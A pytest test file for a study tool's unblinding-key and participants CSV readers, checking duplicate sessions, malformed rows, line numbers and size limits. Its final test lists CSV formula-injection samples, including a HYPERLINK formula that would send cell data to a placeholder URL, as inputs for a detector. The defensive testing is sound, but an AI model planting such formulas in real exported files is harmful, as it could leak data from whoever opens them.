"""The unblinding key file."""

from __future__ import annotations

from pathlib import Path

import pytest

from coder.errors import ProjectError
from coder.project import read_key, write_key
from coder.project.key_file import formula_like, read_participants


def test_write_then_read(tmp_path: Path) -> None:
    path = tmp_path / "key.csv"
    rows = [
        {"session": "S-KKKKK", "participant": "P2", "arm": "TAU", "timepoint": "t1", "site": "B"},
        {"session": "S-AAAAA", "participant": "P1", "arm": "PIP", "timepoint": "t0"},
    ]
    write_key(path, rows)
    assert path.read_text().splitlines()[0] == "session,participant,arm,timepoint,site"
    assert read_key(path) == [
        {"session": "S-AAAAA", "participant": "P1", "arm": "PIP", "timepoint": "t0", "site": ""},
        {"session": "S-KKKKK", "participant": "P2", "arm": "TAU", "timepoint": "t1", "site": "B"},
    ]


def test_excel_bom_and_spaces_are_tolerated(tmp_path: Path) -> None:
    path = tmp_path / "key.csv"
    path.write_bytes("\ufeffsession,participant\r\n S-AAAAA , P1 \r\n".encode())
    assert read_key(path) == [{"session": "S-AAAAA", "participant": "P1"}]


@pytest.mark.parametrize(
    ("text", "needle"),
    [
        ("participant\nP1\n", "no 'session' column"),
        ("", "no 'session' column"),
        ("session,participant\n,P1\n", "line 2: empty session code"),
        ("session\nS-A\nS-B\nS-A\n", "line 4: session 'S-A' appears twice"),
    ],
)
def test_bad_keys(tmp_path: Path, text: str, needle: str) -> None:
    path = tmp_path / "key.csv"
    path.write_text(text)
    with pytest.raises(ProjectError, match=needle) as caught:
        read_key(path)
    assert str(path) in str(caught.value)


def test_missing_and_binary_keys(tmp_path: Path) -> None:
    with pytest.raises(ProjectError, match="no unblinding key"):
        read_key(tmp_path / "none.csv")
    (tmp_path / "bin.csv").write_bytes(b"\xff\xfe\x00garbage\x80")
    with pytest.raises(ProjectError, match="cannot read"):
        read_key(tmp_path / "bin.csv")


def test_a_session_twice_names_both_lines(tmp_path: Path) -> None:
    path = tmp_path / "key.csv"
    path.write_text("session,arm\nS-A,PIP\nS-B,TAU\nS-A,TAU\n")
    with pytest.raises(ProjectError) as caught:
        read_key(path)
    assert str(caught.value) == (
        f"{path}: line 4: session 'S-A' appears twice (also on line 2) (keep one row per session)"
    )


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("session,arm,arm\nS-A,PIP,TAU\n", "line 1: the unblinding key names column 'arm' twice"),
        ("session,arm\nS-A,PIP,extra\n", "line 2 has 3 values but the header names 2 columns"),
        ('session,arm\nS-A,"PIP\n', "line 2: not a readable CSV unblinding key"),
        ("session,note\nS-A," + "x" * 200_000 + "\n",
         "line 2: not a readable CSV unblinding key: field larger than field limit"),
        ("session,note\nS-A,\"" + "x" * 20_000 + "\"\n",
         "line 2, column 'note': a value of 20000 characters (at most 10000)"),
    ],
    ids=["column-twice", "extra-values", "open-quote", "huge-field", "long-value"],
)
def test_unclear_tables_are_refused_naming_the_line(
    tmp_path: Path, text: str, message: str
) -> None:
    path = tmp_path / "key.csv"
    path.write_text(text)
    with pytest.raises(ProjectError) as caught:
        read_key(path)
    assert str(caught.value).startswith(f"{path}: {message}"), str(caught.value)


def test_a_multi_line_value_keeps_the_line_numbers_right(tmp_path: Path) -> None:
    path = tmp_path / "key.csv"
    path.write_text('session,note\nS-A,"two\nlines"\nS-B,x\nS-A,y\n')
    with pytest.raises(ProjectError, match=r"line 5: session 'S-A' appears twice \(also on line 2\)"):
        read_key(path)


def test_participants_rows_for_one_video_name_both_lines(tmp_path: Path) -> None:
    path = tmp_path / "participants.csv"
    path.write_text(
        "video,participant,arm\nvideos/P1.mp4,P1,A\nP2.mp4,P2,B\nother/P1.mp4,P1,B\n"
    )
    with pytest.raises(ProjectError) as caught:
        read_participants(path)
    assert str(caught.value) == (
        f"{path}: lines 2 and 4 both describe video 'P1.mp4' (keep one row per video)"
    )


def test_participants_are_keyed_by_file_name(tmp_path: Path) -> None:
    path = tmp_path / "participants.csv"
    path.write_text("video,participant,arm\nvideos\\P1.mp4, P1 ,A\nP2.mp4,P2,B\n")
    assert read_participants(path) == {
        "P1.mp4": {"participant": "P1", "arm": "A"},
        "P2.mp4": {"participant": "P2", "arm": "B"},
    }


def test_formula_like_values_are_listed_but_numbers_are_not() -> None:
    rows = [
        {"participant": '=HYPERLINK("http://x"&A1)', "arm": "+cmd", "score": "-1.5"},
        {"participant": "-2+3", "arm": "@SUM(A1)", "score": "+4"},
        {"participant": "P1", "arm": "A", "score": "1e3"},
    ]
    assert formula_like(rows) == [
        "column 'participant': '=HYPERLINK(\"http://x\"&A1)'",
        "column 'arm': '+cmd'",
        "column 'participant': '-2+3'",
        "column 'arm': '@SUM(A1)'",
    ]
